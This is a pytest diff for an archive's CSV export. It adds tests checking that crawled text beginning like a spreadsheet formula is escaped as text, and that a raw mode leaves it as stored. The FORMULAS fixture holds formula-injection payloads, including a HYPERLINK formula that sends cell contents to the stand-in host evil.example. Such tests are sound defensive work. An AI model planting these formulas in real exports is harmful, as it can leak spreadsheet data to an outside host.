@@ -15,7 +15,7 @@ from contextlib import closing
 import pytest
 
 from archive.export import ExportError, columns, replaced_atomically
-from conftest import FAST, medarchive_in_process, middle_article
+from conftest import FAST, medarchive_in_process, middle_article, written_archive
 from test_full_disk import small_disk  # noqa: F401 (a fixture)
 
 CITED = {"dois": "article_dois", "pmids": "article_pmids", "pmcids": "article_pmcids", "trials": "article_trials"}
@@ -87,6 +87,28 @@ def test_csv_reads_back_with_the_csv_module_and_opens_in_excel_with_bom(two_site
     raw = target.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbfurl,id,site,")  # Excel reads UTF-8 only after the byte order mark
     assert read_csv(raw.decode("utf-8-sig")) == archive_rows(two_sites["db"])
+
+
+#: Crawled text a spreadsheet would run as a formula, by column.
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"详情")', "category": "+SUM(1,1)", "body": "-2+3 cmd",
+            "disclaimer": "@SUM(1,1)", "published_raw": "\t=1+1"}
+
+
+@pytest.fixture
+def formulas(tmp_path):
+    """An archive of one article whose crawled text starts like spreadsheet formulas."""
+    return written_archive(tmp_path, [{"url": "https://site.example/a/1.html", "site": "https://site.example", "body_html": "<p>x</p>",
+                                       "references": [], "dois": [], "pmids": [], "pmcids": [], **FORMULAS}])
+
+
+def test_csv_cells_that_start_like_a_formula_are_written_as_text(formulas):
+    row = read_csv(export("--db", str(formulas), "--format", "csv").stdout)[0]
+    assert {name: row[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+
+
+def test_raw_csv_keeps_the_cells_as_stored(formulas):
+    row = read_csv(export("--db", str(formulas), "--format", "csv", "--raw").stdout)[0]
+    assert {name: row[name] for name in FORMULAS} == FORMULAS
 
 
 def test_parquet_reads_back_with_pyarrow(two_sites, tmp_path):
